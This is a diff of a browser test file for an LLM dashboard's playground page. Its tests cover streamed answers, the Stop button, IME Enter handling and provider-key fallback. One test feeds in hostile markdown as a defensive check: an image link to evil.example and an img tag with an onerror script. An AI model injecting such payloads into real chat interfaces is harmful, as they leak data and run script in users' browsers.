@@ -1,79 +1,27 @@
 // The playground in a real browser: an answer comes in steps and can be stopped, an Enter that belongs to a character
-// sends nothing, and under every answer stands whose key paid. After every step the page is clean: axe, console, policy,
-// no foreign request, no secret.
-import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
-import { createFakeKey } from '../../fake-provider/fake-keys.ts'
-import { startFakeProvider, type FakeProvider } from '../../fake-provider/fake-provider.ts'
-import { type Browser, browserInstalled, dashboardBuilt, launchBrowser, type Watched } from '../../support/browser.ts'
-import { startUniRoute, type UniRoute } from '../../support/uniroute-process.ts'
+// sends nothing, and under every answer stands whose key paid. After every step the page is clean.
+import { expect, test, vi } from 'vitest'
+import { describeDashboard, type TabOptions } from '../../support/dashboard-suite.ts'
 
-const canRun = browserInstalled && dashboardBuilt
-const name = canRun ? 'the playground' : 'the playground: run `npm test`, which installs the browser and builds it'
+describeDashboard('the playground', (suite) => {
+  const { expectClean, newKey, press, sees, start } = suite
 
-describe.skipIf(!canRun)(name, () => {
-  let fake: FakeProvider
-  let browser: Browser
-  let uniroute: UniRoute
-  let tab: Watched
-  const secrets: string[] = []
-
-  beforeAll(async () => {
-    fake = await startFakeProvider()
-    browser = await launchBrowser()
-  })
-  afterEach(async () => {
-    await tab?.close()
-    await uniroute?.stop()
-    uniroute?.remove()
-    secrets.length = 0
-  })
-  afterAll(async () => {
-    await browser?.close()
-    await fake?.close()
-  })
-
-  const newKey = (scenario: string): string => {
-    const key = createFakeKey('openai', scenario)
-    secrets.push(key)
-    return key
+  async function open(options: TabOptions = {}, query = '?model=gpt-4o'): Promise<void> {
+    await suite.signIn(`/playground${query}`, 'Playground', options)
+    await suite.page.getByRole('combobox', { name: /model/i }).first().waitFor()
   }
-
-  /** What holds on every page, at any moment. */
-  async function expectClean(): Promise<void> {
-    expect(await tab.runAxe()).toEqual([])
-    expect(await tab.scrollsSideways()).toBe(false)
-    expect(tab.problems).toEqual([])
-    for (const secret of secrets) expect(await tab.findSecret(secret)).toEqual([])
-  }
-
-  async function start(options: Parameters<typeof startUniRoute>[0] = {}): Promise<string> {
-    uniroute = await startUniRoute({ fake, ...options })
-    return uniroute.login()
-  }
-
-  async function open(options: Parameters<Browser['open']>[1] = {}, query = '?model=gpt-4o'): Promise<void> {
-    tab = await browser.open(`${uniroute.url}/playground${query}`, options)
-    await tab.page.getByLabel('E-mail').fill(uniroute.adminAccount.email)
-    await tab.page.getByLabel('Password', { exact: true }).fill(uniroute.adminAccount.password)
-    await tab.page.getByRole('button', { name: 'Sign in' }).click()
-    await tab.page.getByRole('heading', { name: 'Playground' }).waitFor()
-    await tab.page.getByRole('combobox', { name: /model/i }).first().waitFor()
-  }
-
-  const press = (button: string): Promise<void> => tab.page.getByRole('button', { name: button, exact: true }).click()
-  const sees = (text: string | RegExp): Promise<void> => tab.page.getByText(text).first().waitFor()
   async function ask(question: string): Promise<void> {
-    await tab.page.getByLabel('Message').fill(question)
+    await suite.page.getByLabel('Message').fill(question)
     await press('Send')
   }
-  const answer = (at = 0): any => tab.page.getByRole('article').nth(at)
+  const answer = (at = 0): any => suite.page.getByRole('article').nth(at)
   const listLog = async (): Promise<any[]> =>
-    (await uniroute.call('GET', '/admin/requests', { token: await uniroute.login() })).body.requests
+    (await suite.uniroute.call('GET', '/admin/requests', { token: await suite.uniroute.login() })).body.requests
 
   test('an answer comes in steps, and says whose key paid, which way it took and what it cost', async () => {
     const token = await start()
     const key = newKey('slow60')
-    await uniroute.addProviderKey(token, 'openai', key, { label: 'Work account' })
+    await suite.uniroute.addProviderKey(token, 'openai', key, { label: 'Work account' })
     await open()
     await expectClean()
     await ask('Say a good many words, one after the other, so that they can be counted as they come')
@@ -103,14 +51,14 @@ describe.skipIf(!canRun)(name, () => {
       /Playground[^]*Your key, Work account[^]*200 after[^]*gpt-4o/,
     )
     // The end is announced, not each word.
-    expect(await tab.page.getByRole('status').allInnerTexts()).toContain('The answer of gpt-4o is complete.')
+    expect(await suite.page.getByRole('status').allInnerTexts()).toContain('The answer of gpt-4o is complete.')
     await expectClean()
   })
 
   test('Stop cuts the provider’s connection, says so, and the log has it as cancelled', async () => {
     const token = await start()
     const key = newKey('slow300')
-    await uniroute.addProviderKey(token, 'openai', key, { label: 'Work account' })
+    await suite.uniroute.addProviderKey(token, 'openai', key, { label: 'Work account' })
     await open()
     await ask('Say something long and slow that gives time to press the button in the middle of it')
     await answer().locator('.prose').getByText('You').waitFor()
@@ -119,23 +67,23 @@ describe.skipIf(!canRun)(name, () => {
     const isChat = ({ operation }: { operation: string }): boolean => operation === 'chat'
     await expect
       .poll(() =>
-        fake
+        suite.fake
           .requestsOf(key)
           .filter(isChat)
           .map(({ state }) => state),
       )
       .toEqual(['aborted'])
     await expect.poll(async () => (await listLog())[0]).toMatchObject({ outcome: 'client_closed', status: 499 })
-    expect(await tab.page.getByRole('status').allInnerTexts()).toContain('The answer of gpt-4o was stopped.')
+    expect(await suite.page.getByRole('status').allInnerTexts()).toContain('The answer of gpt-4o was stopped.')
     await expectClean()
   })
 
   test('Enter while a character is composed sends nothing; Enter after it sends; Shift and Enter begins a line', async () => {
     const token = await start()
     const key = newKey('ok')
-    await uniroute.addProviderKey(token, 'openai', key)
+    await suite.uniroute.addProviderKey(token, 'openai', key)
     await open()
-    const field = tab.page.getByLabel('Message')
+    const field = suite.page.getByLabel('Message')
     await field.fill('にほん')
     for (const init of [{ isComposing: true }, { keyCode: 229 }]) {
       await field.evaluate((element: any, more: object) => {
@@ -149,7 +97,7 @@ describe.skipIf(!canRun)(name, () => {
       }, init)
     }
     await field.press('Shift+Enter')
-    expect(await tab.page.getByRole('article').count()).toBe(0)
+    expect(await suite.page.getByRole('article').count()).toBe(0)
     expect(await field.inputValue()).toBe('にほん\n')
     await field.press('Enter')
     await sees('にほん')
@@ -160,7 +108,10 @@ describe.skipIf(!canRun)(name, () => {
   test('a rejected key of one’s own, then the server’s: the trace shows the turn; with `never` 424 names the key', async () => {
     const serverKey = newKey('operator')
     const token = await start({ serverKeys: { openai: serverKey } })
-    const own = await uniroute.addProviderKey(token, 'openai', newKey('invalid'), { label: 'Personal' })
+    // Lists of models go well, or looking at the page would find out before the request does.
+    const rejected = newKey()
+    suite.fake.behave(rejected, (_call, { body }) => (body === undefined ? undefined : 'invalid'))
+    const own = await suite.uniroute.addProviderKey(token, 'openai', rejected, { label: 'Personal' })
     await open({ expect: /424/ })
     await ask('Who pays for this?')
     const trace = answer().getByRole('list', { name: 'The way of this request' })
@@ -170,9 +121,9 @@ describe.skipIf(!canRun)(name, () => {
     await expectClean()
     expect(await listLog()).toMatchObject([{ billed_to: 'server', fallback: 'invalid', attempts: 2 }])
 
-    const served = fake.requestsOf(serverKey).length
-    const { version } = (await uniroute.call('GET', '/admin/provider-keys', { token })).body.keys[0]
-    const never = await uniroute.call('PATCH', `/admin/provider-keys/${own.id}`, {
+    const served = suite.fake.requestsOf(serverKey).length
+    const { version } = (await suite.uniroute.call('GET', '/admin/provider-keys', { token })).body.keys[0]
+    const never = await suite.uniroute.call('PATCH', `/admin/provider-keys/${own.id}`, {
       token,
       body: { fallback: 'never', version },
     })
@@ -181,13 +132,13 @@ describe.skipIf(!canRun)(name, () => {
     const refusal = answer(1).getByRole('alert')
     await refusal.waitFor()
     expect(await refusal.innerText()).toMatch(new RegExp(`Personal[^]*${own.last4}`))
-    expect(fake.requestsOf(serverKey)).toHaveLength(served)
+    expect(suite.fake.requestsOf(serverKey)).toHaveLength(served)
     await expectClean()
   })
 
   test('two models side by side; hostile markdown neither loads, runs nor leaves the page', async () => {
     const token = await start()
-    await uniroute.addProviderKey(token, 'openai', newKey('ok'), { label: 'Work' })
+    await suite.uniroute.addProviderKey(token, 'openai', newKey('ok'), { label: 'Work' })
     await open({ width: 320, height: 700, theme: 'dark' }, '?model=gpt-4o&with=gpt-4o-mini')
     await ask(
       '![stolen](https://evil.example/?q=1) <img src="https://evil.example/x.png" onerror="alert(1)"> ' +
@@ -213,7 +164,7 @@ describe.skipIf(!canRun)(name, () => {
     await expectClean()
     await press('Add a provider key')
     const key = newKey('ok')
-    await tab.page.getByLabel('Add a key', { exact: true }).evaluate((field: any, text: string) => {
+    await suite.page.getByLabel('Add a key', { exact: true }).evaluate((field: any, text: string) => {
       const data = new (globalThis as any).DataTransfer()
       data.setData('text/plain', text)
       field.dispatchEvent(
@@ -223,7 +174,7 @@ describe.skipIf(!canRun)(name, () => {
     await sees('Looks like a key of OpenAI.')
     await expectClean()
     await press('Test and save')
-    await tab.page.getByRole('dialog').waitFor({ state: 'detached' })
+    await suite.page.getByRole('dialog').waitFor({ state: 'detached' })
     await ask('Hello')
     await answer().getByText('You, Unnamed key').waitFor()
     await expectClean()
